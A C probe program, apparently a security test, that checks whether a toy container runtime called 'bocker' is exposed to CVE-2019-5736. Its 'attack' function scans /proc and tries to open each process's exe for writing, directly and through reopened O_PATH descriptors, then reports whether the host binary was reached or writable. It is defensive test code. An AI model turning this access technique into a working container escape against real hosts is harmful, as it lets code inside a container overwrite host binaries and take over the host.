// CVE-2019-5736 probe: scans /proc in a tight loop and tries to reach the executable of every
// other process (open /proc/PID/exe for writing, O_PATH then reopen through /proc/self/fd,
// plain read). Any file whose device and inode are argv[1]/argv[2] (the host's bocker binary)
// is reported as REACHED; any write open that succeeds on it as WROTE. Runs until /tmp/stop
// exists, then prints "denied N" (how often a process's exe was refused: the joining bocker
// seen while it was not dumpable) and exits.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static dev_t want_dev;
static ino_t want_ino;
static long denied, reached, wrote;
static int kept[64];
static int nkept;

static int is_host_binary(int fd) {
    struct stat st;
    return fstat(fd, &st) == 0 && st.st_dev == want_dev && st.st_ino == want_ino;
}

static void attack(const char *pid) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
        if (is_host_binary(w)) { wrote++; printf("WROTE open %s\n", path); }
        close(w);
    }
    int p = open(path, O_PATH | O_CLOEXEC);
    if (p < 0) {
        if (errno == EACCES || errno == EPERM) denied++;
        return;
    }
    if (is_host_binary(p)) {
        reached++;
        printf("REACHED %s\n", path);
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", p);
        int w2 = open(self, O_WRONLY | O_CLOEXEC);
        if (w2 >= 0) { wrote++; printf("WROTE reopen %s\n", path); close(w2); }
        if (nkept < 64) { kept[nkept++] = p; return; }
    }
    close(p);
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    want_dev = (dev_t)strtoull(argv[1], NULL, 10);
    want_ino = (ino_t)strtoull(argv[2], NULL, 10);
    setvbuf(stdout, NULL, _IOLBF, 0);
    char me[16];
    snprintf(me, sizeof me, "%d", getpid());
    printf("probe running\n");
    while (access("/tmp/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        if (!d) return 3;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, me) == 0) continue;
            attack(e->d_name);
        }
        closedir(d);
    }
    // The joining processes are gone by now: a kept O_PATH fd would now open for writing.
    for (int i = 0; i < nkept; i++) {
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", kept[i]);
        int w = open(self, O_WRONLY | O_CLOEXEC);
        if (w >= 0) { wrote++; printf("WROTE late reopen\n"); close(w); }
    }
    printf("denied %ld reached %ld wrote %ld\n", denied, reached, wrote);
    return 0;
}
